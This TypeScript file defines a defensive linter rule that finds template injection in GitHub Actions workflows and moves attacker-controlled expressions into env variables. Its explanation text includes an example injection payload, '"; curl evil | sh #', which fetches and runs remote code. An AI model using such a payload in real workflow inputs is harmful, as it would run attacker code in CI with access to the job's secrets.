import { parseUses } from '../../model/action-ref.js';
import { stepsOf, type StepRef } from '../../model/workflow-model.js';
import type { FileContext, FileRule, FileRuleResult } from '../../rule.js';
import type { SourceFile } from '../../types.js';
import { lineOfNode, pairOf, stringOf, valueOf } from '../../yaml/ast.js';
import { classifyExpressions } from './classify-expressions.js';
import { describe, fixRun } from './fix-run.js';

export const templateInjection: FileRule = {
  id: 'template-injection',
  scope: 'file',
  kinds: ['workflow', 'action'],
  defaultEnabled: true,
  title: 'Move attacker-controlled expressions out of run: scripts',
  explanation:
    'GitHub pastes `${{ … }}` into a `run:` script before the shell reads it, so an issue title, pull request body, ' +
    'branch name or commit message written as `"; curl evil | sh #` runs as code in your job, with its token and ' +
    'secrets. Passed through `env:` and read as a shell variable (`${TITLE}`, `$env:TITLE`), the same text stays data. ' +
    'Only single context references in bash, sh, zsh and PowerShell scripts are rewritten; anything else is reported.',
  async check(ctx: FileContext): Promise<FileRuleResult> {
    const out: FileRuleResult = { edits: [], notes: [] };
    const linuxLabels = ctx.options.hardenRunner.linuxLabels;
    for (const step of stepsOf(ctx.file)) {
      if (!step.map) continue;
      const run = pairOf(step.map, 'run');
      if (run) fixRun(ctx.file, step, run, linuxLabels, out);
      else scriptInputNotes(ctx.file, step, out);
    }
    out.edits.sort((a, b) => a.line - b.line);
    out.notes.sort((a, b) => a.line - b.line);
    return out;
  },
};

/** INJ-2: `actions/github-script` runs its `script:` input as JavaScript; report, never rewrite. */
function scriptInputNotes(file: SourceFile, step: StepRef, out: FileRuleResult): void {
  const uses = stringOf(valueOf(step.map, 'uses'));
  if (!uses) return;
  const ref = parseUses(uses);
  if (ref.kind !== 'remote' || ref.action.toLowerCase() !== 'actions/github-script') return;
  const scriptNode = valueOf(valueOf(step.map, 'with'), 'script');
  const script = stringOf(scriptNode);
  if (!script) return;
  const seen = new Set<string>();
  for (const d of classifyExpressions(script).dangerous) {
    if (seen.has(d.text)) continue;
    seen.add(d.text);
    out.notes.push({
      line: lineOfNode(file, scriptNode),
      message:
        `${d.text} in the script: of actions/github-script is attacker-controlled (${describe(d)}) and runs as JavaScript; ` +
        'pass it through env: and read process.env.<NAME> instead (not changed automatically)',
    });
  }
}
